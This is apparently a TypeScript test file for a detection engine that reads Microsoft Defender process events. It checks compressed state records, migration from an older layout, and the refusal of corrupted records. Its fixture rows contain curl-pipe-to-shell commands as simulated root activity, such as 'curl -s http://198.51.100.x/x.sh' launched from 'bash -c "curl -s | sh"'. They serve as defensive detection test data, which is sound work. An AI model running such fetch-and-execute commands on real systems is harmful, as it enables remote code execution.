/**
 * The engine's group, device and dedupe records are saved compressed (engine records v2), state of the
 * first layout (v1, plain JSON records) is read and goes on as if it had been saved by this one, and a
 * damaged compressed record is refused as unreadable, never read as something else.
 */
import { describe, expect, it } from 'vitest';
import { defineDetector } from '../detector/define.js';
import { createAnalyzer } from '../engine/analyze.js';
import type { JsonValue, MdeEvent } from '../model/event.js';
import { normalizeRow } from '../model/normalize.js';
import type { AnalysisResult } from '../report/types.js';
import { ENGINE_STATE_VERSION, engineStateWrite } from './engine-state.js';
import { memoryStateStore } from './memory-store.js';
import type { StateStore } from './types.js';
import { packRecord, unpackRecord } from './zrecord.js';

const DEVICE = { DeviceId: '2f1c6a0e9b8d7c5f4e3a2b1c0d9e8f7a6b5c4d3e', DeviceName: 'web01.contoso.com' };
const POSIX = JSON.stringify({
  InitiatingProcessPosixEffectiveUser: {
    Sid: 'S-1-5-18',
    Name: 'root',
    DomainName: 'web01',
    LogonId: 0,
    PosixUserId: 0,
    PrimaryPosixGroup: { Name: 'root', PosixGroupId: 0 },
  },
  InitiatingProcessPosixSessionId: 1029,
  InitiatingProcessCurrentWorkingDirectory: '/',
});

function row(i: number): MdeEvent {
  const e = normalizeRow(
    {
      Timestamp: `2026-03-10T10:0${Math.floor(i / 6)}:${10 + i}.1234567Z`,
      ...DEVICE,
      ActionType: 'ProcessCreated',
      FileName: 'curl',
      FolderPath: '/usr/bin/curl',
      ProcessCommandLine: `curl -s http://198.51.100.${i}/x.sh`,
      InitiatingProcessFileName: 'bash',
      InitiatingProcessCommandLine: 'bash -c "curl -s | sh"',
      AdditionalFields: POSIX,
      ReportId: String(9000 + i),
    },
    'DeviceProcessEvents',
    { source: 'batch.ndjson', line: i + 1 },
  );
  if (!('table' in e)) throw new Error('bad row');
  return e;
}

const detector = defineDetector({
  meta: {
    id: 'test/curl',
    title: 'curl',
    summary: 'curl runs.',
    rationale: 'Exercises compressed state.',
    severity: 'medium',
    category: 'Testing',
    mitre: ['T1105'],
    tables: ['DeviceProcessEvents'],
    evidence: { urls: { from: 'ProcessCommandLine', combine: 'distinct' } },
    columns: ['ProcessCommandLine', 'AdditionalFields'],
    messages: { default: { title: '{count} curl runs', description: 'curl.', riskAssessment: 'Test.' } },
  },
  window: { sizeMs: 10 * 60_000, threshold: 8 },
  match: (e) => ({ key: e.str('FileName') ?? '' }),
});

async function batch(store: StateStore, events: readonly MdeEvent[]): Promise<AnalysisResult> {
  const a = createAnalyzer({ detectors: [detector], generatedAt: '2026-03-10T12:00:00.000Z', state: { store } });
  await a.ready();
  for (const e of events) a.pushEvent(e);
  const r = a.finish();
  await store.write(engineStateWrite(a));
  return r;
}

async function opened(): Promise<StateStore> {
  const s = memoryStateStore();
  await s.open();
  return s;
}

const rows = Array.from({ length: 12 }, (_, i) => row(i));

describe('compressed engine records', () => {
  it('saves groups, devices and dedupe chunks as { z }, smaller than their JSON', async () => {
    const store = await opened();
    await batch(store, rows.slice(0, 5));
    for (const ns of ['groups', 'devices', 'dedupe'] as const) {
      const records = [...(await store.read(ns)).values()];
      expect(records.length).toBeGreaterThan(0);
      for (const v of records) {
        expect(Object.keys(v as object)).toEqual(['z']);
        expect((v as { z: string }).z.length).toBeLessThan(JSON.stringify(unpackRecord(v)).length);
      }
    }
    const meta = [...(await store.read('meta')).values()][0] as { v: number };
    expect(meta.v).toBe(ENGINE_STATE_VERSION);
    expect(ENGINE_STATE_VERSION).toBe(2);
  });

  it('round-trips any JSON value exactly', () => {
    const v: JsonValue = { a: ['639199803770463703', 1.5, null, true, '\u2028\u{1F600}'], __proto__x: { k: '' } };
    expect(unpackRecord(packRecord(v) as unknown as JsonValue)).toEqual(v);
    // A v1 record (plain JSON) is read as it is.
    expect(unpackRecord([1, 2, 'x'])).toEqual([1, 2, 'x']);
    expect(unpackRecord({ d: 'x', z: 'not a packed record' })).toEqual({ d: 'x', z: 'not a packed record' });
  });

  it('reads state of the first layout (v1, plain records) and goes on as one run does', async () => {
    const whole = await batch(await opened(), rows);
    const store = await opened();
    await batch(store, rows.slice(0, 6));
    // The same state as v1 wrote it: plain records, meta v1.
    const put: { ns: 'groups' | 'devices' | 'dedupe' | 'meta'; key: string; value: JsonValue }[] = [];
    for (const ns of ['groups', 'devices', 'dedupe'] as const)
      for (const [key, v] of await store.read(ns)) put.push({ ns, key, value: unpackRecord<JsonValue>(v) });
    for (const [key, v] of await store.read('meta')) put.push({ ns: 'meta', key, value: { ...(v as object), v: 1 } });
    await store.write({ put });
    expect(Object.keys([...(await store.read('groups')).values()][0] as object)).toContain('e');
    const second = await batch(store, rows.slice(6));
    expect(JSON.stringify(second.alerts)).toBe(JSON.stringify(whole.alerts));
    expect(second.alerts[0]!.evidence.eventCount).toBe(12);
    // What the batch touched is written in the new layout.
    expect(Object.keys([...(await store.read('groups')).values()][0] as object)).toEqual(['z']);
  });

  it('refuses a damaged compressed record as unreadable', async () => {
    const store = await opened();
    await batch(store, rows.slice(0, 3));
    const [key] = [...(await store.read('groups')).keys()];
    await store.write({ put: [{ ns: 'groups', key: key!, value: { z: 'AAAA////' } }] });
    const a = createAnalyzer({ detectors: [detector], state: { store } });
    await expect(a.ready()).rejects.toMatchObject({ code: 'state-unreadable' });
  });
});
